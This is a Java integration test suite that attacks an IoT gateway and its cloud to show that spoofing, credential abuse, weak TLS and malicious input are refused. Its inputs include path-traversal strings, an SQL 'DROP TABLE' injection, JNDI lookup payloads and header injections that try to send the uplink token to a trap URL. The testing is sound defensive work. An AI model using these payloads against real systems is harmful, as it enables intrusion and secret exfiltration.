// SPDX-License-Identifier: Apache-2.0
package io.caravan.it;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.hivemq.client.mqtt.MqttClientSslConfig;
import com.hivemq.client.mqtt.datatypes.MqttQos;
import com.hivemq.client.mqtt.mqtt5.Mqtt5AsyncClient;
import com.hivemq.client.mqtt.mqtt5.Mqtt5Client;
import com.hivemq.client.mqtt.mqtt5.Mqtt5ClientBuilder;
import com.hivemq.client.mqtt.mqtt5.exceptions.Mqtt5PubAckException;
import com.hivemq.client.mqtt.mqtt5.exceptions.Mqtt5SubAckException;
import com.hivemq.client.mqtt.mqtt5.message.publish.Mqtt5Publish;
import com.hivemq.client.mqtt.mqtt5.message.publish.Mqtt5PublishResult;
import com.hivemq.client.mqtt.mqtt5.message.publish.puback.Mqtt5PubAckReasonCode;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attacks on both distributions, configured as on a device network: registry, tokens, client certificates. Each is refused
 * with its code and counted with its reason; meanwhile well-behaved devices go on and lose nothing, and at the end no secret
 * that was used is in anything that was written.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class SecurityIT {
  private static final Duration SOON = Duration.ofSeconds(30);
  private static final String JSON = "Content-Type: application/json";
  private static final int HEADER_MS = 2_000;
  private static final int CONNECT_MS = 3_000;
  private static final int SIGNATURE_WINDOW = 10;
  /** The address of an attacker; those who must not be locked out with him have their own. */
  private static final String ATTACKER = "127.0.1.1";

  private static final Map<String, String> TOKENS = new LinkedHashMap<>();
  private static final Set<String> SECRETS = new HashSet<>();
  private static final List<Steady> STEADY = new ArrayList<>();
  private static Pair pair;
  private static Distribution gateway;
  private static Path certs;
  private static Path otherCerts;
  private static int mqttsPort;
  /** Whoever an attacker wants the gateway to call; nobody ever must. */
  private static ServerSocket trap;
  private static final AtomicInteger TRAPPED = new AtomicInteger();
  /** Where sink-analytics delivers; and what came. */
  private static HttpServer receiver;
  private static final Set<String> RECEIVED = java.util.concurrent.ConcurrentHashMap.newKeySet();

  @BeforeAll
  static void start() throws Exception {
    trap = new ServerSocket(0, 50, InetAddress.getByName("127.0.0.1"));
    Thread trapper = new Thread(() -> {
      try {
        while (true) {
          trap.accept().close();
          TRAPPED.incrementAndGet();
        }
      } catch (IOException closed) {
        // the end
      }
    });
    trapper.setDaemon(true);
    trapper.start();
    receiver = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    receiver.createContext("/", exchange -> {
      RECEIVED.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
      exchange.getRequestHeaders().forEach((k, v) -> RECEIVED.add(k.toLowerCase() + ": " + v));
      exchange.getRequestBody().readAllBytes();
      exchange.sendResponseHeaders(200, -1);
      exchange.close();
    });
    receiver.start();

    pair = new Pair("security");
    gateway = pair.gateway;
    certs = pair.folder.resolve("certs");
    otherCerts = pair.folder.resolve("other");
    mqttsPort = Ports.free();
    pair.certs("server", certs.toString(), "mqtt", "localhost", "127.0.0.1");
    for (String id : List.of("steady-mtls", "cert-1", "cert-revoked")) {
      pair.certs("client", certs.toString(), id);
    }
    pair.certs("init", otherCerts.toString());
    pair.certs("client", otherCerts.toString(), "cert-1");
    expiredCertificate("cert-expired");
    keep(Files.readString(pair.folder.resolve("gateway.token")).trim());
    try (Stream<Path> keys = Stream.concat(Files.list(certs), Files.list(otherCerts))) {
      for (Path key : keys.filter(p -> p.toString().endsWith(".key")).toList()) {
        // One line of its base64 tells it, whatever the line breaks became.
        keep(Files.readAllLines(key).get(1));
      }
    }
    // A gateway of the attacker's own, which is known to the cloud: what can it do to others?
    String evil = keep("e".repeat(40) + System.nanoTime());
    Files.writeString(pair.folder.resolve("evil.token"), evil);
    Files.writeString(pair.folder.resolve("gateways"), Files.readString(pair.folder.resolve("gateways")) + "evil = sha256:" + hex(sha256(evil)) + "\n");

    gateway.with("device.access", "registry").with("device.registry.file", pair.folder.resolve("registry.db"))
        .with("device.lock.ms", 4_000).with("device.signature.window", SIGNATURE_WINDOW)
        .with("mqtt.server.connect.timeout.ms", CONNECT_MS)
        .with("mqtt.server.tls.enabled", true).with("mqtt.server.tls.port", mqttsPort)
        .with("mqtt.server.tls.cert.file", certs.resolve("mqtt.crt")).with("mqtt.server.tls.key.file", certs.resolve("mqtt.key"))
        .with("mqtt.server.tls.client.ca.file", certs.resolve("ca.crt")).with("mqtt.server.tls.crl.file", certs.resolve("ca.crl"))
        .with("http.header.timeout.ms", HEADER_MS).with("http.request.timeout.ms", HEADER_MS)
        .with("sink.analytics.url", "http://127.0.0.1:" + receiver.getAddress().getPort() + "/rows").with("sink.analytics.loopback.http", true);
    pair.start();
    gateway.shell("feature:install caravan-sink-analytics");
    for (String id : List.of("steady-mqtt", "steady-http", "steady-mtls", "victim", "attacker", "cert-1", "cert-revoked", "cert-expired")) {
      enrol(id, "");
    }
    STEADY.add(new Steady("steady-mqtt", Steady::overMqtt));
    STEADY.add(new Steady("steady-http", Steady::overHttp));
    STEADY.add(new Steady("steady-mtls", Steady::overMtls));
    STEADY.forEach(Thread::start);
  }

  @AfterAll
  static void stop() throws Exception {
    STEADY.forEach(s -> s.stop = true);
    if (pair != null) {
      pair.close();
    }
    trap.close();
    receiver.stop(0);
  }

  // ---- who may do what

  @Test
  void spoofedTopicIsRefused() throws Exception {
    counted("caravan_mqtt_messages_total{.*outcome=\"not_authorized\"", 2, () -> {
      Mqtt5AsyncClient client = connect(ATTACKER, "attacker", TOKENS.get("attacker"));
      for (String topic : List.of("devices/victim/telemetry", "devices/victim/events")) {
        assertEquals(Mqtt5PubAckReasonCode.NOT_AUTHORIZED, publish(client, topic, telemetry(1)), topic);
      }
      assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publish(client, "devices/attacker/telemetry", telemetry(1)), "its own is open to it");
      client.disconnect();
    });
    counted("caravan_auth_total{.*outcome=\"wrong_token\",transport=\"http\"", 1,
        () -> assertUnauthorized(post(ATTACKER, "victim", TOKENS.get("attacker"), telemetry(2))));
    // Its own id in path and token, another one in the message.
    Wire.Answer answer = post(ATTACKER, "attacker", TOKENS.get("attacker"), "{\"schema_version\":1,\"device_id\":\"victim\",\"metrics\":{\"t\":1}}");
    assertEquals(400, answer.status(), answer::body);
    assertTrue(answer.body().contains("device_id_mismatch"), answer::body);
    assertEquals(0, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE device_id = 'victim'"));
  }

  @Test
  void foreignSubscriptionIsRefused() throws Exception {
    counted("caravan_mqtt_subscriptions_total{.*outcome=\"(not_authorized|refused)\"", 6, () -> {
      Mqtt5AsyncClient client = connect(ATTACKER, "attacker", TOKENS.get("attacker"));
      for (String filter : List.of("devices/victim/commands", "devices/victim/receipts", "#", "devices/+/commands", "devices/#", "$SYS/#")) {
        ExecutionException e = assertThrows(ExecutionException.class,
            () -> client.subscribeWith().topicFilter(filter).send().get(Device.WAIT_SECONDS, TimeUnit.SECONDS), filter);
        assertTrue(e.getCause() instanceof Mqtt5SubAckException, e::toString);
        ((Mqtt5SubAckException) e.getCause()).getMqttMessage().getReasonCodes().forEach(c -> assertTrue(c.isError(), filter + " " + c));
      }
      client.subscribeWith().topicFilter("devices/attacker/commands").send().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
      client.disconnect();
    });
  }

  @Test
  void unknownWrongRevokedAndExpiredAreRefusedAlike() throws Exception {
    String from = "127.0.1.2";
    enrol("revoked", "");
    gateway.shell("device:revoke revoked --yes");
    enrol("expiring", "--not-after 1s");
    // Until the gateway says so: the clock is its own.
    await().atMost(SOON).until(() -> post("127.0.1.3", "expiring", TOKENS.get("expiring"), telemetry(1)).status() == 401);
    Map<String, String[]> cases = Map.of(
        "no_credential", new String[] {"victim", null},
        "unknown_device", new String[] {"nobody", TOKENS.get("attacker")},
        "wrong_token", new String[] {"victim", keep("cvn_" + "A".repeat(43))},
        "revoked", new String[] {"revoked", TOKENS.get("revoked")},
        "expired", new String[] {"expiring", TOKENS.get("expiring")});
    Set<String> answers = new HashSet<>();
    for (var c : cases.entrySet()) {
      String id = c.getValue()[0];
      String token = c.getValue()[1];
      counted("caravan_auth_total{outcome=\"" + c.getKey() + "\",transport=\"http\"", 1, () -> {
        Wire.Answer answer = assertUnauthorized(post(from, id, token, telemetry(1)));
        answers.add(answer.body() + new TreeSet<>(answer.headers().keySet()) + answer.headers().get("WWW-Authenticate"));
      });
      counted("caravan_auth_total{outcome=\"" + c.getKey() + "\",transport=\"mqtt\"", 1, () -> {
        try (Socket socket = Wire.connect(from, pair.mqttPort)) {
          assertEquals(0x87, Wire.mqttConnack(socket, Wire.mqttConnect("c", id, token)), c.getKey());
          assertEquals(0, remaining(socket), "nothing more is said");
        }
      });
    }
    assertEquals(1, answers.size(), () -> "who is refused must not learn why: " + answers);
  }

  @Test
  void revocationCutsTheSessionAtOnce() throws Exception {
    enrol("stolen", "");
    CountDownLatch cut = new CountDownLatch(1);
    Mqtt5AsyncClient client = client(ATTACKER, "stolen", TOKENS.get("stolen")).addDisconnectedListener(c -> cut.countDown()).buildAsync();
    client.connect().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
    assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publish(client, "devices/stolen/telemetry", telemetry(1)));
    gateway.shell("device:revoke stolen --yes");
    assertTrue(cut.await(30, TimeUnit.SECONDS), "the session goes on after device:revoke");
    assertUnauthorized(post("127.0.1.4", "stolen", TOKENS.get("stolen"), telemetry(2)));
    List<JsonNode> audit = audit("device.revoke", "stolen");
    assertEquals(1, audit.size(), audit::toString);
  }

  @Test
  void guessingTokensLocksOut() throws Exception {
    String from = "127.0.1.5";
    counted("caravan_auth_total{outcome=\"locked_out\",transport=\"http\"", 1, () -> {
      Wire.Answer answer = null;
      for (int i = 0; i < 50 && (answer == null || answer.status() == 401); i++) {
        answer = post(from, "victim", keep(String.format("cvn_%043d", i)), telemetry(1));
      }
      assertEquals(429, answer.status(), answer::body);
      assertTrue(Integer.parseInt(answer.headers().get("Retry-After")) > 0);
      // Now even the right one says nothing, here; and is not asked about, elsewhere.
      assertEquals(429, post(from, "victim", TOKENS.get("victim"), telemetry(1)).status());
    });
    try (Socket socket = Wire.connect(from, pair.mqttPort)) {
      assertEquals(0x9F, Wire.mqttConnack(socket, Wire.mqttConnect("c", "victim", TOKENS.get("victim"))));
    }
    assertEquals(202, post("127.0.1.6", "attacker", TOKENS.get("attacker"), telemetry(100)).status(), "the same gateway, another address");
    assertFalse(audit("device.lock", null).isEmpty() && audit("device.lockout", null).isEmpty(), "lock-outs are audited");
    await().atMost(SOON).until(() -> post(from, "attacker", TOKENS.get("attacker"), telemetry(101)).status() == 202);
  }

  @Test
  void addressOutsideTheAllowListIsRefused() throws Exception {
    enrol("fenced", "--allow 127.0.3.0/24");
    counted("caravan_auth_total{outcome=\"address\"", 3, () -> {
      assertUnauthorized(post("127.0.1.7", "fenced", TOKENS.get("fenced"), telemetry(1)));
      try (Socket socket = Wire.connect("127.0.1.7", pair.mqttPort)) {
        assertEquals(0x87, Wire.mqttConnack(socket, Wire.mqttConnect("c", "fenced", TOKENS.get("fenced"))));
      }
      // Nobody's word for where he is counts.
      assertUnauthorized(post("127.0.1.7", "fenced", TOKENS.get("fenced"), telemetry(1), "X-Forwarded-For: 127.0.3.1", "Forwarded: for=127.0.3.1"));
    });
    assertEquals(202, post("127.0.3.1", "fenced", TOKENS.get("fenced"), telemetry(1)).status());
  }

  // ---- TLS

  @Test
  void certificatesThatAreNotInForceAreRefused() throws Exception {
    assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publishWith("cert-1", certs), "the right one is accepted");
    assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publishWith("cert-revoked", certs), "not revoked yet");
    Files.copy(certs.resolve("cert-revoked.crt"), pair.folder.resolve("cert-revoked.crt"));
    Files.copy(certs.resolve("cert-revoked.key"), pair.folder.resolve("cert-revoked.key"));
    pair.certs("revoke", certs.toString(), "cert-revoked");
    await("the revocation list is read").atMost(SOON).pollInterval(Duration.ofMillis(200)).until(() -> !accepted("cert-revoked", pair.folder));
    counted("caravan_mqtt_refused_total{.*reason=\"certificate_revoked\"", 1, () -> assertFalse(accepted("cert-revoked", pair.folder)));
    counted("caravan_mqtt_refused_total{.*reason=\"untrusted\"", 1, () -> assertFalse(accepted("cert-1", otherCerts)));
    counted("caravan_mqtt_refused_total{.*reason=\"certificate_expired\"", 1, () -> assertFalse(accepted("cert-expired", certs)));
    counted("caravan_mqtt_refused_total{.*reason=\"no_certificate\"", 1, () -> assertFalse(accepted(null, certs)));
    // A certificate is one device and no other.
    counted("caravan_mqtt_refused_total{.*reason=\"certificate_name\"", 1, () -> {
      try (SSLSocket socket = Wire.secure(Wire.tls(certs.resolve("ca.crt"), certs.resolve("cert-1.crt"), certs.resolve("cert-1.key")),
          Wire.connect(ATTACKER, mqttsPort))) {
        assertEquals(0x87, Wire.mqttConnack(socket, Wire.mqttConnect("c", "victim", null)));
      }
    });
    assertTrue(accepted("cert-1", certs));
  }

  @Test
  void plaintextOnTheTlsPortIsRefused() throws Exception {
    counted("caravan_mqtt_refused_total{.*reason=\"plaintext\"", 1, () -> {
      try (Socket socket = Wire.connect(ATTACKER, mqttsPort)) {
        socket.getOutputStream().write(Wire.mqttConnect("c", "victim", TOKENS.get("victim")));
        assertNotEquals(0x20, first(Wire.drain(socket)), "no CONNACK");
      }
    });
    counted(pair.cloud, "caravan_uplink_refused_total{reason=\"plaintext\"", 1, () -> {
      try (Socket socket = Wire.connect(ATTACKER, pair.uplinkPort)) {
        socket.getOutputStream().write("GET /uplink/it HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        String said = new String(Wire.drain(socket), StandardCharsets.ISO_8859_1);
        assertFalse(said.startsWith("HTTP/1.1 101"), said);
      }
    });
  }

  @Test
  void oldTlsIsRefused() throws Exception {
    for (int version : new int[] {0x0302, 0x0301, 0x0300}) {
      for (int port : new int[] {mqttsPort, pair.uplinkPort}) {
        try (Socket socket = Wire.connect(ATTACKER, port)) {
          socket.getOutputStream().write(clientHello(version));
          byte[] said = Wire.drain(socket);
          assertNotEquals(0x16, first(said), () -> "handshake goes on with " + Integer.toHexString(version) + " on " + port);
        }
      }
    }
    assertTrue(metric(gateway, "caravan_mqtt_refused_total{.*reason=\"tls_version\"") >= 3);
    // The same bytes with TLS 1.2 in them are taken: it is the version that is refused.
    try (Socket socket = Wire.connect(ATTACKER, mqttsPort)) {
      socket.getOutputStream().write(clientHello(0x0303));
      assertEquals(0x16, socket.getInputStream().read());
    }
  }

  // ---- what comes in

  @ParameterizedTest
  @ValueSource(strings = {"/ingest/../../etc/passwd", "/ingest/%2e%2e/%2e%2e/etc/passwd", "/ingest/..%2f..%2fetc%2fpasswd", "/ingest/%252e%252e%252fetc",
      "/ingest/victim/../attacker", "/ingest//attacker", "/../../../../etc/passwd", "/ingest/a%00b", "/ingest/..;/metrics", "/ingest/....//",
      "/ingest/attacker%2Fevents", "/ingest/\\..\\etc", "/ingest/%c0%ae%c0%ae/"})
  void pathsLeadNowhere(String path) throws Exception {
    double before = metric(gateway, "caravan_http_refused_total{");
    Wire.Answer answer = Wire.http("127.0.1.8", gateway.httpPort, "POST " + path + " HTTP/1.1", telemetry(1).getBytes(StandardCharsets.UTF_8), JSON);
    assertTrue(Set.of(400, 401, 404).contains(answer.status()), () -> path + ": " + answer);
    assertFalse(answer.body().contains("root:") || answer.body().contains(path.substring(1)), answer::body);
    if (answer.status() != 404) {
      await().atMost(SOON).until(() -> metric(gateway, "caravan_http_refused_total{") > before);
    }
    assertEquals(0, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE device_id = 'victim'"));
  }

  @Test
  void headersFromOutsideNeverReachAProducer() throws Exception {
    String trapUrl = "http://127.0.0.1:" + trap.getLocalPort() + "/";
    Map<String, String> evil = new LinkedHashMap<>();
    for (String name : List.of("CamelHttpUri", "CAmelHttpUri", "camelhttpuri", "CamelHttpPath", "CamelHttpQuery", "CamelHttpMethod", "CamelToEndpoint",
        "CamelRecipientList", "CamelSlipEndpoint", "CamelFileName", "CamelFilePath", "CamelSqlQuery", "CamelBeanMethodName", "CamelLogDebugBodyMaxChars",
        "kafka.OVERRIDE_TOPIC", "kafka.PARTITION_KEY", "CamelAwsS3BucketName", "CamelAwsS3Key", "CamelPahoOverrideTopic", "CamelMqttTopic",
        "websocket.sendToAll", "websocket.connectionKey", "CamelVertxWebsocket.connectionKey", "Long-Running-Action", "CaravanTopic", "CaravanDeviceId",
        "CaravanSource", "CaravanSink", "CaravanBatchKey", "breadcrumbId")) {
      evil.put(name, name.contains("Uri") || name.contains("Endpoint") || name.contains("Recipient") || name.contains("Slip") ? trapUrl + "{{uplink.token.file}}"
          : name.contains("Topic") || name.contains("DeviceId") ? "devices/victim/telemetry" : "../../evil-{{uplink.token.file}}");
    }
    String[] headers = Stream.concat(Stream.of(JSON), evil.entrySet().stream().map(e -> e.getKey() + ": " + e.getValue())).toArray(String[]::new);
    StringBuilder query = new StringBuilder("?");
    evil.forEach((k, v) -> query.append(k).append('=').append(java.net.URLEncoder.encode(v, StandardCharsets.UTF_8)).append('&'));
    byte[] body = telemetry(200).getBytes(StandardCharsets.UTF_8);
    String auth = "Authorization: Bearer " + TOKENS.get("attacker");
    Wire.Answer plain = Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", body, with(headers, auth));
    assertEquals(202, plain.status(), plain::body);
    Wire.Answer queried = Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker" + query.substring(0, 1_500) + " HTTP/1.1",
        telemetry(201).getBytes(StandardCharsets.UTF_8), JSON, auth);
    assertTrue(queried.status() == 202 || queried.status() == 400, queried::toString);
    // A form is a map of headers to some components.
    Wire.Answer form = Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", query.substring(1).getBytes(StandardCharsets.UTF_8),
        "Content-Type: application/x-www-form-urlencoded", auth);
    assertEquals(415, form.status(), form::body);

    Mqtt5AsyncClient client = connect(ATTACKER, "attacker", TOKENS.get("attacker"));
    var publish = Mqtt5Publish.builder().topic("devices/attacker/telemetry").qos(MqttQos.AT_LEAST_ONCE).payload(telemetry(202).getBytes(StandardCharsets.UTF_8))
        .responseTopic("devices/victim/commands").contentType("application/json");
    var properties = publish.userProperties();
    for (var e : evil.entrySet()) {
      properties = properties.add(e.getKey(), e.getValue());
    }
    assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publish(client, properties.applyUserProperties().build()));
    client.disconnect();

    // Delivered to where the configuration says, by every producer that is there, and nowhere else.
    await().atMost(SOON).pollInterval(Duration.ofMillis(200)).until(() -> Store.number(pair.gatewayDb,
        "SELECT count(*) FROM message_status WHERE device_id = 'attacker' AND sink = 'analytics' AND status = 'Acked' AND device_seq IN (200, 202)") == 2);
    assertEquals(Set.of("POST /rows"), new HashSet<>(RECEIVED.stream().filter(l -> l.startsWith("POST") || l.startsWith("GET")).toList()));
    assertEquals(List.of(), RECEIVED.stream().filter(l -> l.contains("evil") || l.startsWith("camel") || l.contains("override")).toList());
    assertEquals(0, TRAPPED.get(), "somebody called the attacker's address");
    assertEquals(0, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE device_id = 'victim'"));
    assertEquals(List.of(), files(pair.folder, "evil-"));
    assertEquals(List.of(), files(gateway.home, "evil-"));
  }

  @Test
  void queryOfTheUplinkIsNoHeader() throws Exception {
    String token = Files.readString(pair.folder.resolve("evil.token"));
    String trapUrl = java.net.URLEncoder.encode("http://127.0.0.1:" + trap.getLocalPort() + "/", StandardCharsets.UTF_8);
    counted(pair.cloud, "caravan_uplink_refused_total{reason=\"bad_request\"", 2, () -> {
      for (String path : List.of("/uplink/evil?CamelHttpUri=" + trapUrl + "&gateway_id=it", "/uplink/evil?CAmelHttpUri=" + trapUrl)) {
        Wire.Answer answer = upgrade(path, token, "caravan.v1");
        assertEquals(400, answer.status(), answer::toString);
      }
    });
    assertEquals(101, upgrade("/uplink/evil", token, "caravan.v1").status(), "the same without a query");
    assertEquals(0, TRAPPED.get());
  }

  @Test
  void uplinkOfOthersIsRefused() throws Exception {
    String evil = Files.readString(pair.folder.resolve("evil.token"));
    Set<String> answers = new HashSet<>();
    Wire.Answer other = upgrade("/uplink/it", evil, "caravan.v1");
    Wire.Answer unknown = upgrade("/uplink/nobody", evil, "caravan.v1");
    Wire.Answer none = upgrade("/uplink/it", null, "caravan.v1");
    for (Wire.Answer answer : List.of(other, unknown, none)) {
      assertEquals(401, answer.status(), answer::toString);
      answers.add(answer.body());
    }
    assertEquals(1, answers.size(), answers::toString);
    try (Uplink uplink = new Uplink("evil", evil, "something.else")) {
      assertEquals("bad_frame", uplink.next().path("reason").asText(), "another subprotocol");
      Wire.drain(uplink.socket);
    }
    assertNotEquals(101, upgrade("/uplink/../api/v1/gateways", evil, "caravan.v1").status());
    assertTrue(metric(pair.cloud, "caravan_uplink_refused_total{reason=\"wrong_token\"") >= 1);
    assertTrue(metric(pair.cloud, "caravan_uplink_refused_total{reason=\"unknown_gateway\"") >= 1);
    assertTrue(metric(pair.cloud, "caravan_uplink_refused_total{reason=\"no_credential\"") >= 1);
  }

  @Test
  void noOriginIsAllowed() throws Exception {
    for (Distribution side : List.of(gateway, pair.cloud)) {
      for (String line : List.of("GET /healthz HTTP/1.1", "GET /metrics HTTP/1.1", "OPTIONS /ingest/attacker HTTP/1.1", "OPTIONS /api/v1/gateways HTTP/1.1")) {
        Wire.Answer answer = Wire.http("127.0.0.1", side.httpPort, line, new byte[0], "Origin: https://evil.example",
            "Access-Control-Request-Method: POST", "Access-Control-Request-Headers: authorization");
        assertEquals(List.of(), answer.headers().keySet().stream().filter(h -> h.toLowerCase().startsWith("access-control")).toList(), line);
      }
    }
  }

  @Test
  void sqlInInputStaysText() throws Exception {
    String sql = "x'); DROP TABLE wal; --";
    long before = Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE device_id = 'attacker'");
    String token = TOKENS.get("attacker");
    // Fields that take any text keep it as it is.
    assertEquals(202, post(ATTACKER, "attacker/events", token, "{\"schema_version\":1,\"boot_id\":\"sql\",\"device_seq\":1,\"event\":\"" + sql
        + "\",\"severity\":\"info\",\"data\":{\"" + sql + "\":\"" + sql + "\"}}").status());
    assertEquals(202, post(ATTACKER, "attacker", token, "{\"schema_version\":1,\"metrics\":{\"t\":1}}", "Idempotency-Key: " + sql).status());
    assertEquals(202, post(ATTACKER, "attacker", token, "{\"schema_version\":1,\"metrics\":{\"t\":2}}", "traceparent: " + sql).status());
    assertEquals(List.of(sql), Store.rows(pair.gatewayDb, "SELECT CAST(body AS TEXT) ->> '$.event' FROM wal WHERE device_id = 'attacker' AND boot_id = 'sql'"));
    assertEquals(1, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE message_key LIKE 'attacker//k/sha256-%'"), "what is no plain text is a hash");
    // Fields with a form refuse it.
    for (String body : List.of("{\"schema_version\":1,\"boot_id\":\"" + sql + "\",\"device_seq\":1,\"metrics\":{\"t\":1}}",
        "{\"schema_version\":1,\"metrics\":{\"" + sql + "\":1}}", "{\"schema_version\":1,\"metrics\":{\"t\":1},\"observed_at\":\"" + sql + "\"}",
        "{\"schema_version\":\"" + sql + "\",\"metrics\":{\"t\":1}}", "{\"schema_version\":1,\"device_id\":\"" + sql + "\",\"metrics\":{\"t\":1}}")) {
      assertEquals(400, post(ATTACKER, "attacker", token, body).status(), body);
    }
    String escaped = java.net.URLEncoder.encode(sql, StandardCharsets.UTF_8).replace("+", "%20");
    assertTrue(Set.of(400, 401).contains(post("127.0.1.9", escaped, token, telemetry(1)).status()));
    try (Socket socket = Wire.connect("127.0.1.9", pair.mqttPort)) {
      assertEquals(0x87, Wire.mqttConnack(socket, Wire.mqttConnect(sql, sql, sql)));
    }
    assertThrows(AssertionError.class, () -> gateway.shell("device:show \"" + sql + "\""));
    assertThrows(AssertionError.class, () -> gateway.shell("wal:peek \"" + sql + "\""));
    // The cloud's API, every parameter of it; what it finds is nothing, and everything is still there.
    for (String path : List.of("/api/v1/devices/it/" + escaped + "/windows?metric=t", "/api/v1/devices/" + escaped + "/attacker/last",
        "/api/v1/devices/it/attacker/windows?metric=" + escaped, "/api/v1/devices/it/attacker/windows?metric=t&from_ms=" + escaped,
        "/api/v1/devices/it/attacker/windows?metric=t&limit=" + escaped, "/api/v1/devices/it/attacker/messages?after=0%20OR%201%3D1",
        "/api/v1/devices/it/attacker/messages?limit=" + escaped, "/api/v1/devices?gateway_id=" + escaped)) {
      HttpAnswer answer = new HttpAnswer(pair.cloud.get(path));
      assertTrue(answer.status < 500, () -> path + ": " + answer);
      assertFalse(answer.body.contains("SQL") || answer.body.contains("syntax"), answer::toString);
    }
    assertEquals(before + 3, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE device_id = 'attacker'"));
    assertTrue(Store.number(pair.cloudDb, "SELECT count(*) FROM gateway_range") > 0);
  }

  @Test
  void expressionsInInputStayText() throws Exception {
    int port = trap.getLocalPort();
    List<String> expressions = List.of("${jndi:ldap://127.0.0.1:" + port + "/a}", "${${lower:j}ndi:rmi://127.0.0.1:" + port + "/a}", "${env:PATH}",
        "{{env:PATH}}", "{{uplink.token.file}}", "${sys:java.home}", "#{systemEnvironment}", "${bean:devices?method=list}", "${body.class.forName('x')}", "%{PATH}");
    for (String x : expressions) {
      String json = new ObjectMapper().writeValueAsString(x);
      Wire.http("127.0.1.10", gateway.httpPort, "POST /ingest/attacker HTTP/1.1", ("{\"schema_version\":1,\"metrics\":{" + json + ":1}}").getBytes(StandardCharsets.UTF_8),
          JSON, "Authorization: Bearer " + TOKENS.get("attacker"), "User-Agent: " + x, "Idempotency-Key: " + x, "traceparent: " + x, "X-Api-Version: " + x);
      Wire.http("127.0.1.10", gateway.httpPort, "POST /ingest/attacker HTTP/1.1", "x".getBytes(StandardCharsets.UTF_8), "Content-Type: " + x,
          "Authorization: Bearer " + TOKENS.get("attacker"));
      try (Socket socket = Wire.connect("127.0.1.10", pair.mqttPort)) {
        int code = Wire.mqttConnack(socket, Wire.mqttConnect(x, x, x));
        assertTrue(code == 0x87 || code == 0x9F || code == 0x85, () -> x + ": " + code);
      }
      Wire.Answer event = post(ATTACKER, "attacker/events", TOKENS.get("attacker"), "{\"schema_version\":1,\"event\":" + json + "}");
      assertEquals(202, event.status(), event::body);
      assertEquals(1, Store.number(pair.gatewayDb, "SELECT count(*) FROM wal WHERE CAST(body AS TEXT) ->> '$.event' = '" + x.replace("'", "''") + "'"));
    }
    assertEquals(0, TRAPPED.get());
    String path = System.getenv("PATH");
    assertFalse(gateway.log().contains(path) || gateway.console().contains(path), "an expression of a device was evaluated");
  }

  @Test
  void signedMessagesCannotBeAlteredOrReplayed() throws Exception {
    enrol("signer", "--signing require");
    String[] bodies = new String[2 * SIGNATURE_WINDOW + 3];
    for (int seq = 1; seq < bodies.length; seq++) {
      bodies[seq] = "{\"schema_version\":1,\"boot_id\":\"b\",\"device_seq\":" + seq + ",\"metrics\":{\"t\":" + seq + "}}";
    }
    String first = signature("signer", "b", 2, bodies[2]);
    counted("caravan_ingest_rejected_total{.*reason=\"bad_signature\"", 3, () -> {
      assertRejected(403, "bad_signature", post(ATTACKER, "signer", TOKENS.get("signer"), bodies[1]));
      assertRejected(403, "bad_signature", post(ATTACKER, "signer", TOKENS.get("signer"), bodies[1], "Caravan-Signature: " + first));
      assertRejected(403, "bad_signature", post(ATTACKER, "signer", TOKENS.get("signer"), bodies[2].replace(":2}", ":3}"), "Caravan-Signature: " + first));
    });
    assertEquals(202, post(ATTACKER, "signer", TOKENS.get("signer"), bodies[2], "Caravan-Signature: " + first).status());
    int last = bodies.length - 1;
    assertEquals(202, post(ATTACKER, "signer", TOKENS.get("signer"), bodies[last], "Caravan-Signature: " + signature("signer", "b", last, bodies[last])).status());
    counted("caravan_wal_replayed_rows_total", 1, () ->
        assertRejected(403, "replayed", post(ATTACKER, "signer", TOKENS.get("signer"), bodies[1], "Caravan-Signature: " + signature("signer", "b", 1, bodies[1]))));
    // By MQTT the same.
